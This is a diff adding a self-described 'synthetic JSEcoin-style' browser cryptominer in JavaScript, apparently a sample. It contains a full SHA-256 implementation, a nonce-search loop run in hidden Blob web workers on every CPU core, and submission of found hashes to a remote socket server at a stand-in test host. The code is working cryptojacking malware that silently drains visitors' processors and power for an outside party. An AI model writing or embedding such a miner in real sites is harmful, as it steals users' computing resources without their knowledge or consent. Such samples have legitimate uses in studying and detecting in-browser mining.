@@ -1,0 +1,71 @@
+// Synthetic JSEcoin-style miner: SHA-256 in plain JavaScript (no Wasm), a nonce search loop
+// against a difficulty target, one Blob worker per core, results over a socket.io-like channel.
+var WORKER_CODE = function () {
+  var K = [
+    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
+    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
+    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
+    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
+    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
+    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
+    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
+    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2
+  ];
+  var H0 = [0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19];
+  
+  function rotr(x, n) { return (x >>> n) | (x << (32 - n)); }
+  
+  // SHA-256 of a byte array, returned as 8 big-endian words
+  function sha256Words(bytes) {
+    var len = bytes.length, bitLen = len * 8;
+    var padded = new Uint8Array(((len + 9 + 63) >> 6) << 6);
+    padded.set(bytes); padded[len] = 0x80;
+    var dv = new DataView(padded.buffer);
+    dv.setUint32(padded.length - 4, bitLen >>> 0);
+    dv.setUint32(padded.length - 8, Math.floor(bitLen / 4294967296));
+    var h = H0.slice(), w = new Uint32Array(64);
+    for (var off = 0; off < padded.length; off += 64) {
+      for (var i = 0; i < 16; i++) w[i] = dv.getUint32(off + i * 4);
+      for (i = 16; i < 64; i++) {
+        var s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >>> 3);
+        var s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >>> 10);
+        w[i] = (w[i - 16] + s0 + w[i - 7] + s1) | 0;
+      }
+      var a = h[0], b = h[1], c = h[2], d = h[3], e = h[4], f = h[5], g = h[6], hh = h[7];
+      for (i = 0; i < 64; i++) {
+        var S1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
+        var ch = (e & f) ^ (~e & g);
+        var t1 = (hh + S1 + ch + K[i] + w[i]) | 0;
+        var S0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
+        var maj = (a & b) ^ (a & c) ^ (b & c);
+        var t2 = (S0 + maj) | 0;
+        hh = g; g = f; f = e; e = (d + t1) | 0; d = c; c = b; b = a; a = (t1 + t2) | 0;
+      }
+      h[0] = (h[0] + a) | 0; h[1] = (h[1] + b) | 0; h[2] = (h[2] + c) | 0; h[3] = (h[3] + d) | 0;
+      h[4] = (h[4] + e) | 0; h[5] = (h[5] + f) | 0; h[6] = (h[6] + g) | 0; h[7] = (h[7] + hh) | 0;
+    }
+    return h;
+  }
+  self.onmessage = function (e) {
+    var job = e.data, nonce = job.start, enc = new TextEncoder();
+    while (nonce < job.end) {
+      var h = sha256Words(enc.encode(job.preHash + nonce));
+      if ((h[0] >>> 0) < job.difficultyTarget) {
+        self.postMessage({ found: true, nonce: nonce, hash: h });
+        return;
+      }
+      nonce++;
+    }
+    self.postMessage({ found: false });
+  };
+};
+var src = "(" + WORKER_CODE.toString() + ")()";
+var url = URL.createObjectURL(new Blob([src], { type: "text/javascript" }));
+var socket = io("https://api.example.test");
+socket.on("blockUpdate", function (block) {
+  for (var i = 0; i < navigator.hardwareConcurrency; i++) {
+    var w = new Worker(url);
+    w.onmessage = function (e) { if (e.data.found) socket.emit("submitHash", { nonce: e.data.nonce, block: block.id }); };
+    w.postMessage({ preHash: block.preHash, start: i * 1e7, end: (i + 1) * 1e7, difficultyTarget: block.target });
+  }
+});
